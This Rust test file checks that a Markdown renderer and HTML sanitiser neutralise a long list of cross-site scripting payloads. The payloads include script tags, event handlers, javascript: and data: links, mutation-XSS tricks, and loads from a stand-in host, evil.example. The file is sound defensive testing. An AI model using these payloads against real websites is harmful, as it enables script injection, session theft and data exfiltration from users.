//! What an attacker would write: none of it may run, load, style or break out of its text.

use proptest::prelude::*;

use super::html::sanitised;
use super::*;

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object><embed src=x>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"background:url(//evil.example)\" class=\"button\" id=\"main\">x</p>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0><base href=//evil.example>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)><summary>x</summary>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template><textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]><?php echo 1 ?><!DOCTYPE html>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a><a href=\" \tjava\nscript:alert(1)\">x</a>",
    "<a href=\"https://a.example\" onclick=alert(1) target=_blank ping=//evil.example>x</a>",
    "<span class=\"update danger\" onclick=alert(1)>x</span>",
    "<p dir=\"rtl\"><ol start=\"x\" onclick=y type=\"disc\"><li value=\"9\">",
    "<td align=\"javascript:alert(1)\" background=//evil.example>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/groups/wg/summary/approval)",
    "[x](\\\\evil.example\\x)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example/'><script>alert(1)</script>)",
    "[x](<https://a.example/\" onclick=alert(1) x=\">)",
    "[x](https://a.example \"t\\\" onmouseover=alert(1)\")",
    "[x][r]\n\n[r]: javascript:alert(1) \"title\"",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![\"onerror=alert(1) x=\"](https://a.example/x.png \"\\\"onload=alert(1)\")",
    "[![x](data:image/svg+xml,<svg/onload=alert(1)>)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x> <vbscript:x> <file:///etc/passwd> <xmpp:a@b.example>",
    "javascript://a.example/%0aalert(1) ftp://a.example http://a.example/\"onclick=alert(1)",
    "xmpp:a@b.example data:a@b.example",
    "`<script>alert(1)</script>` ``` <img src=x onerror=alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>\n<h1>x</h1>",
    "| <img src=x onerror=alert(1)> |\n| --- |\n| <script>x |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "&#0; &#x0; &#xD800; &#x110000; &NotAnEntity; &lt",
    "[UPDATE: <span class=x onclick=alert(1)>] </span></p><script>alert(1)</script>",
    "**<b>unclosed [x](https://a.example",
    "</div></main></body></html>",
    "<a href=https://a.example><a href=https://b.example>x",
    "<table><tr><td><p></table><div>",
];

#[test]
fn no_attack_in_markdown_runs_loads_or_breaks_out() {
    for attack in ATTACKS {
        for source in [
            attack.to_string(),
            format!("> - text {attack} text"),
            format!("*a {attack}\n\nb* {attack}"),
        ] {
            let html = Markdown::parse(&source, Under::H2).unwrap().html;
            assert_eq!(wrong(&html), None, "{source}\n{html}");
        }
    }
}

#[test]
fn the_sanitiser_alone_stops_them_too() {
    for attack in ATTACKS {
        let html = sanitised(attack);
        assert_eq!(wrong(&html), None, "{attack}\n{html}");
        assert_eq!(sanitised(&html), html, "what is clean changes when it is cleaned again");
    }
}

#[test]
fn a_link_that_would_run_or_load_is_what_was_typed() {
    for source in [
        "[x](javascript:alert(1))",
        "[x](//evil.example)",
        "[open document](#)",
        "<javascript:alert(1)>",
        "![plan](data:image/png;base64,AA)",
    ] {
        let html = Markdown::parse(source, Under::H2).unwrap().html;
        let typed = source.replace('<', "&lt;").replace('>', "&gt;");
        assert_eq!(html, format!("<p dir=\"auto\">{typed}</p>\n"));
    }
}

proptest! {
    #[test]
    fn no_mixture_of_marks_and_tags_does_either(
        parts in prop::collection::vec(
            prop::sample::select(vec![
                "<script>", "</script>", "<img src=x onerror=y>", "<!--", "-->", "<svg>", "<style>", "</p>", "<a href=\"", "\"", "'", ">", "<",
                "](", "[x](", "![", "javascript:", "https://a.example/", ")", "*", "**", "`", "```\n", "\n", "\n\n", "> ", "- ", "# ", "| ", "\n|-|\n",
                "&lt;", "&#x6a;", "&", "\\", "[UPDATE: ", "]", "~~", "<https:", "\t", "\u{0}", "\u{202E}", "é", " ",
            ]),
            0..30,
        )
    ) {
        let source = parts.concat();
        let html = Markdown::parse(&source, Under::H2).unwrap().html;
        prop_assert_eq!(wrong(&html), None, "{}", html);
    }
}

/// Reads HTML as strictly as the sanitiser writes it, and names the first thing that is not
/// on this list. It shares no code with the sanitiser.
fn wrong(html: &str) -> Option<String> {
    let mut open: Vec<String> = Vec::new();
    let mut rest = html;
    while let Some((text, after)) = rest.split_once('<') {
        if text.contains('>') {
            return Some(format!("a bare > in {text}"));
        }
        let Some((tag, after)) = after.split_once('>') else {
            return Some(format!("<{after} has no end"));
        };
        rest = after;
        if let Some(name) = tag.strip_prefix('/') {
            if open.pop().as_deref() != Some(name) {
                return Some(format!("</{name}> closes nothing"));
            }
            continue;
        }
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        if !" p h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong del a span table thead tbody tr th td br hr ".contains(&format!(" {name} ")) {
            return Some(format!("<{name}>"));
        }
        if name == "a" && open.iter().any(|outer| outer == "a") {
            return Some("a link in a link".into());
        }
        if let Some(attribute) =
            attributes_of(attributes).find(|(key, value)| !allowed(name, key, value))
        {
            return Some(format!("{attribute:?} of <{name}>"));
        }
        if !["br", "hr"].contains(&name) {
            open.push(name.to_owned());
        }
    }
    if rest.contains('>') {
        return Some(format!("a bare > in {rest}"));
    }
    open.pop().map(|name| format!("<{name}> is never closed"))
}

fn attributes_of(tag: &str) -> impl Iterator<Item = (&str, &str)> {
    tag.split_inclusive("\" ").filter(|part| !part.is_empty()).map(|part| {
        let (key, value) = part.trim_end().split_once("=\"").unwrap_or((part, "no value"));
        (key, value.strip_suffix('"').unwrap_or("no end"))
    })
}

fn allowed(tag: &str, key: &str, value: &str) -> bool {
    match (tag, key) {
        (_, "dir") => value == "auto",
        ("a", "rel") => value == "nofollow noopener noreferrer",
        ("a", "href") => {
            let url = value.to_ascii_lowercase();
            let own = url.starts_with('/') && !url.starts_with("//") && !url.contains('\\');
            own || ["http:", "https:", "mailto:"].iter().any(|scheme| url.starts_with(scheme))
        }
        ("ol", "start") => value.parse::<u64>().is_ok() || value == "x",
        ("td" | "th", "align") => ["left", "center", "right"].contains(&value),
        ("span", "class") => ["update", ""].contains(&value),
        _ => false,
    }
}
